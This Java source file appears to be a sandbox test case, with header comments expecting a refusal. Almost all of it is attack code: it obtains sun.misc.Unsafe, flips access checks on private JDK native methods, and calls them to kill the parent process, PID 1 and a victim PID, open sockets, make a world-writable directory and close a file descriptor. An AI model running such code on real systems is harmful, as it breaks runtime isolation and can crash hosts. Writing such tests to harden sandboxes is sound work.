// tries: the library's own doors to processes, signals and sockets, opened by the unsafe door
// honest: VALID
// never: ^did
import java.lang.reflect.Field;
import java.lang.reflect.Method;
import java.util.ArrayList;
import java.util.Map;

public final class NativesByForce {
    public static Object run(Map<String, Object> bait) throws Throwable {
        try {
            Class.forName("sun.misc.Unsafe");
        } catch (ClassNotFoundException absent) {
            return "refused: not in this image";
        }
        Field theUnsafe = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
        theUnsafe.setAccessible(true);
        Object unsafe = theUnsafe.get(null);
        var put = unsafe.getClass().getMethod("putBoolean", Object.class, long.class, boolean.class);
        var done = new ArrayList<String>();
        long own = ProcessHandle.current().pid();
        long parent = ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L);
        Object[][] doors = {
            {"java.lang.ProcessHandleImpl", "destroy0", parent, 0L, true},
            {"java.lang.ProcessHandleImpl", "destroy0", 1L, 0L, true},
            {"java.lang.ProcessHandleImpl", "destroy0", ((Number) bait.get("victimPid")).longValue(), 0L, true},
            {"sun.nio.ch.Net", "socket0", false, true, true, false},
            {"sun.nio.ch.UnixDomainSockets", "socket0"},
            {"sun.nio.fs.UnixNativeDispatcher", "mkdir0", 0L, 0777},
            {"java.io.FileCleanable", "cleanupClose0", 9, 0L},
        };
        for (Object[] door : doors) {
            try {
                Class<?> type = Class.forName((String) door[0]);
                for (Method method : type.getDeclaredMethods()) {
                    if (method.getName().equals(door[1]) && method.getParameterCount() == door.length - 2) {
                        put.invoke(unsafe, method, 12L, true);
                        Object answer = method.invoke(null, java.util.Arrays.copyOfRange(door, 2, door.length));
                        if (answer instanceof Boolean && (boolean) answer || answer instanceof Integer && (int) answer >= 0) {
                            done.add(door[0] + "." + door[1] + " " + answer);
                        }
                    }
                }
            } catch (Throwable refused) {
                // the next one
            }
        }
        return done.isEmpty() ? "refused " + (own > 0) : "did " + done;
    }
}
